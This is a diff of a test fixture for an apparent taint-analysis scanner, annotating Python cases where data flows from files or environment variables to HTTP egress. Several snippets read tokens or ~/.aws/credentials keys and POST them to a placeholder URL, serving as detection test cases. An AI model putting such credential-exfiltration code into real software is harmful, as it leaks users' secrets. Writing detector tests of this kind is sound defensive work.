@@ -43,7 +43,8 @@ def json_stream():
 
 def json_file():
     value = json.load(open("/home/me/config.json"))  #~ source(FILE) f4
-    requests.post(U, data=value["token"])  #~ sink(egress.http) f4, finding(traced) f4
+    requests.post(U, data=value["token"])  #~ sink(egress.http) f4, finding(assumed) f4
+    requests.post(U, json=value)  #~ sink(egress.http) f4, finding(traced) f4
 
 
 def json_constants():
@@ -137,7 +138,7 @@ def table_constants():
 def config_file():
     config = configparser.ConfigParser()
     config.read("/home/me/.aws/credentials")  #~ source(FILE) f21, capability(FILES)
-    requests.post(U, data=config.get("default", "key"))  #~ sink(egress.http) f21, finding(traced) f21
+    requests.post(U, data=config.get("default", "key"))  #~ sink(egress.http) f21, finding(assumed) f21
 
 
 def config_text():
@@ -462,3 +463,20 @@ def frame_stream():
 def frame_constants():
     requests.post(U, data=pandas.DataFrame(["ping"]).to_csv())  #~ ok
     requests.post(U, data={"none": pandas.read_csv("/home/me/t.csv") == ()})  #~ ok
+
+
+def grown_xml():
+    root = xml.etree.ElementTree.Element("r")
+    child = xml.etree.ElementTree.SubElement(root, "c")
+    child.text = os.getenv("T")  #~ source(ENVIRONMENT) fgrown
+    requests.post(U, data=xml.etree.ElementTree.tostring(root))  #~ sink(egress.http) fgrown, finding(traced) fgrown
+    other = xml.etree.ElementTree.Element("r")
+    xml.etree.ElementTree.SubElement(other, "c")  #~ ok
+    requests.post(U, data=xml.etree.ElementTree.tostring(other))  #~ ok
+
+
+def settings_by_name():
+    config = configparser.ConfigParser()
+    config.read("/etc/agent.ini")  #~ source(FILE) fset
+    requests.post(config["server"]["url"], data="ping")  #~ sink(egress.http) fset, finding(assumed) fset
+    requests.post(config.get("server", "url"), data="ping")  #~ sink(egress.http) fset, finding(assumed) fset
